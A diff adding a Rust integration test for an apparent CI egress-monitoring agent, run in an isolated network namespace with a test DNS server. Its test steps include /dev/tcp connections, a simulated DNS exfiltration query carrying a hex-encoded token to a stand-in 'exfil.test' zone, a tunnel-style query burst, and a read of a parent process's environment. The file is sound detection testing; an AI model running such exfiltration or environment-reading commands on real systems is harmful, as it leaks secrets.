@@ -1,0 +1,308 @@
+//! Egress by name: real DNS (dnsmasq) in a network namespace made for the test, job processes
+//! resolving and connecting inside it, and the agent attributing each connection to the name it
+//! was resolved from. Nothing leaves the machine: the namespace has only its loopback.
+
+use std::{
+    process::{Child, Command, Stdio},
+    sync::atomic::{AtomicU32, Ordering},
+};
+
+use integration_tests::{by_rule, Agent, FakeRunner, Value};
+
+static LABS: AtomicU32 = AtomicU32::new(0);
+
+/// A network namespace with addresses on its loopback, a DNS server answering the test's names,
+/// and a TCP sink on port 8080 (IPv4 and IPv6). Removed on drop.
+struct DnsLab {
+    ns: String,
+    dnsmasq: Child,
+    sink: Child,
+}
+
+fn run(args: &[&str]) {
+    let out = Command::new(args[0]).args(&args[1..]).output().unwrap();
+    assert!(
+        out.status.success(),
+        "{args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+impl DnsLab {
+    fn start() -> Self {
+        let ns = format!(
+            "mon-dns-{}-{}",
+            std::process::id(),
+            LABS.fetch_add(1, Ordering::Relaxed)
+        );
+        run(&["ip", "netns", "add", &ns]);
+        run(&["ip", "-n", &ns, "link", "set", "lo", "up"]);
+        for a in [
+            "10.77.0.1/32",
+            "10.77.0.2/32",
+            "10.77.0.3/32",
+            "10.77.0.4/32",
+            "10.77.0.5/32",
+            "10.77.0.9/32",
+        ] {
+            run(&["ip", "-n", &ns, "addr", "add", a, "dev", "lo"]);
+        }
+        run(&["ip", "-n", &ns, "addr", "add", "fd77::1/128", "dev", "lo"]);
+        // `ip netns exec` bind-mounts this over /etc/resolv.conf for what runs in the namespace.
+        std::fs::create_dir_all(format!("/etc/netns/{ns}")).unwrap();
+        std::fs::write(
+            format!("/etc/netns/{ns}/resolv.conf"),
+            "nameserver 127.0.0.1\n",
+        )
+        .unwrap();
+        let dnsmasq = Command::new("ip")
+            .args([
+                "netns",
+                "exec",
+                &ns,
+                "dnsmasq",
+                "--keep-in-foreground",
+                "--no-resolv",
+                "--no-hosts",
+            ])
+            .args([
+                "--listen-address=127.0.0.1",
+                "--bind-interfaces",
+                "--cache-size=0",
+            ])
+            .args([
+                "--address=/allowed.test/10.77.0.1",
+                "--address=/denied.test/10.77.0.2",
+                "--address=/tcpname.test/10.77.0.4",
+                "--address=/v6.test/fd77::1",
+                "--host-record=edge.cdn-allowed.test,10.77.0.3",
+                "--cname=www.alias.test,edge.cdn-allowed.test",
+                "--host-record=edge.cdn-other.test,10.77.0.5",
+                "--cname=www.badalias.test,edge.cdn-other.test",
+                "--address=/exfil.test/10.77.0.9",
+                "--address=/tunnel.test/10.77.0.9",
+            ])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("dnsmasq (Debian's dnsmasq-base; `cargo xtask setup` installs it)");
+        let sink = Command::new("ip")
+            .args(["netns", "exec", &ns, "python3", "-c"])
+            .arg(
+                "import socket\n\
+                 s=socket.create_server(('::',8080),family=socket.AF_INET6,dualstack_ipv6=True)\n\
+                 while True:\n    c,_=s.accept(); c.close()\n",
+            )
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        let lab = DnsLab { ns, dnsmasq, sink };
+        // Ready when the server answers.
+        for _ in 0..100 {
+            let ok = Command::new("ip")
+                .args(["netns", "exec", &lab.ns, "getent", "hosts", "allowed.test"])
+                .output()
+                .is_ok_and(|o| o.status.success());
+            if ok {
+                return lab;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(100));
+        }
+        panic!("dnsmasq did not answer in {}", lab.ns);
+    }
+
+    /// A shell command run inside the namespace (as a job's step would, through `ip netns exec`).
+    fn sh(&self, command: &str) -> String {
+        format!("ip netns exec {} bash -c '{}'\n", self.ns, command)
+    }
+}
+
+impl Drop for DnsLab {
+    fn drop(&mut self) {
+        let _ = self.dnsmasq.kill();
+        let _ = self.sink.kill();
+        let _ = self.dnsmasq.wait();
+        let _ = self.sink.wait();
+        let _ = Command::new("ip").args(["netns", "del", &self.ns]).status();
+        let _ = std::fs::remove_dir_all(format!("/etc/netns/{}", self.ns));
+    }
+}
+
+const PROFILE: &str =
+    "version: 1\negress:\n  allow:\n    - allowed.test:8080\n    - \"*.cdn-allowed.test:8080\"\n";
+
+fn egress_to<'a>(findings: &'a [Value], port_step: &str) -> Vec<&'a Value> {
+    by_rule(findings, "unexpected-egress")
+        .into_iter()
+        .filter(|f| f["step"]["id"] == port_step)
+        .collect()
+}
+
+#[test]
+fn connections_are_judged_by_the_name_they_were_resolved_from() {
+    let agent = Agent::start_with_profile(PROFILE);
+    let lab = DnsLab::start();
+    let runner = FakeRunner::new();
+    let connect = |host: &str| lab.sh(&format!("exec 3<>/dev/tcp/{host}/8080; exec 3>&-"));
+    runner.run_job(&[
+        ("allowed", &connect("allowed.test")),
+        ("denied", &connect("denied.test")),
+        ("direct", &connect("10.77.0.9")),
+        (
+            "tcp",
+            &format!("RES_OPTIONS=use-vc {}", connect("tcpname.test")),
+        ),
+        ("v6", &connect("v6.test")),
+        ("alias", &connect("www.alias.test")),
+        ("badalias", &connect("www.badalias.test")),
+        ("marker", "cat /proc/$PPID/environ >/dev/null\n"),
+    ]);
+    let all = agent.wait_for_findings("the marker", |all| {
+        runner
+            .findings_of(all)
+            .iter()
+            .any(|f| f["step"]["id"] == "marker")
+    });
+    let mine = runner.findings_of(&all);
+    let show = || format!("{mine:#?}");
+
+    assert!(
+        egress_to(&mine, "allowed").is_empty(),
+        "an allowed domain connects: {}",
+        show()
+    );
+    assert!(
+        egress_to(&mine, "alias").is_empty(),
+        "allowed through its CNAME: {}",
+        show()
+    );
+
+    let denied = egress_to(&mine, "denied");
+    assert_eq!(denied.len(), 1, "{}", show());
+    assert_eq!(denied[0]["evidence"]["domain"], "denied.test");
+    assert_eq!(denied[0]["evidence"]["address"], "10.77.0.2");
+    assert!(denied[0]["summary"]
+        .as_str()
+        .unwrap()
+        .contains("denied.test"));
+    assert_eq!(
+        denied[0]["allowance"]["domain"], "denied.test",
+        "learn writes the name, not the IP"
+    );
+
+    let direct = egress_to(&mine, "direct");
+    assert_eq!(direct[0]["evidence"]["resolved"], false);
+    assert!(direct[0]["summary"]
+        .as_str()
+        .unwrap()
+        .contains("never resolved"));
+
+    let tcp = egress_to(&mine, "tcp");
+    assert_eq!(
+        tcp[0]["evidence"]["domain"],
+        "tcpname.test",
+        "DNS over TCP attributed: {}",
+        show()
+    );
+
+    let v6 = egress_to(&mine, "v6");
+    assert_eq!(
+        (
+            v6[0]["evidence"]["domain"].as_str(),
+            v6[0]["evidence"]["address"].as_str()
+        ),
+        (Some("v6.test"), Some("fd77::1"))
+    );
+
+    let bad = egress_to(&mine, "badalias");
+    assert_eq!(
+        bad[0]["evidence"]["domain"], "www.badalias.test",
+        "named by what was asked"
+    );
+    assert_eq!(bad[0]["evidence"]["cname_chain"][0], "edge.cdn-other.test");
+
+    // The answers themselves are in the event log, with the transport.
+    let events = agent.events();
+    let answer = |name: &str| {
+        events
+            .iter()
+            .find(|e| e["kind"] == "dns" && e["question"] == name)
+            .cloned()
+    };
+    assert_eq!(
+        answer("tcpname.test").expect("tcp answer")["transport"],
+        "tcp"
+    );
+    assert_eq!(
+        answer("www.alias.test").expect("alias answer")["answers"][0]["type"],
+        "CNAME"
+    );
+    drop(lab);
+}
+
+#[test]
+fn data_carrying_dns_queries_are_flagged_without_writing_the_data_down() {
+    let agent = Agent::start_with_profile(PROFILE);
+    let lab = DnsLab::start();
+    let runner = FakeRunner::new();
+    // A token, hex-encoded into a label (as DNS exfiltration tools do), and a tunnel's burst of
+    // unique names; getent resolves without connecting.
+    let secret_hex = "6768705f43346e3472794768433e6e3472794768433";
+    runner.run_job(&[
+        (
+            "label",
+            &lab.sh(&format!(
+                "getent hosts {secret_hex}.a.exfil.test >/dev/null || true"
+            )),
+        ),
+        (
+            "burst",
+            &lab.sh(
+                "for i in $(seq 1 80); do getent hosts q$i.tunnel.test >/dev/null || true; done",
+            ),
+        ),
+        (
+            "benign",
+            &lab.sh("getent hosts allowed.test >/dev/null; getent hosts www.alias.test >/dev/null"),
+        ),
+        ("marker", "cat /proc/$PPID/environ >/dev/null\n"),
+    ]);
+    let all = agent.wait_for_findings("the marker", |all| {
+        runner
+            .findings_of(all)
+            .iter()
+            .any(|f| f["step"]["id"] == "marker")
+    });
+    let mine = runner.findings_of(&all);
+    let exfil = by_rule(&mine, "dns-exfiltration");
+    let label = exfil
+        .iter()
+        .find(|f| f["step"]["id"] == "label")
+        .unwrap_or_else(|| panic!("{mine:#?}"));
+    assert_eq!(label["evidence"]["zone"], "exfil.test");
+    let burst = exfil
+        .iter()
+        .find(|f| f["step"]["id"] == "burst")
+        .unwrap_or_else(|| panic!("{mine:#?}"));
+    assert_eq!(burst["evidence"]["zone"], "tunnel.test");
+    assert!(
+        exfil.iter().all(|f| f["step"]["id"] != "benign"),
+        "{exfil:#?}"
+    );
+    // The finding names the zone and the label's size, not its content. (The command line in
+    // the process chain and the event log keep what ran, as for any command: the forensic
+    // record of a secret that already left.)
+    for f in &exfil {
+        let said = format!("{}{}", f["summary"], f["evidence"]);
+        assert!(
+            !said.contains(secret_hex),
+            "the encoded data is repeated in {said}"
+        );
+    }
+    assert!(label["evidence"]["query"]
+        .as_str()
+        .unwrap()
+        .contains("chars)"));
+    drop(lab);
+}
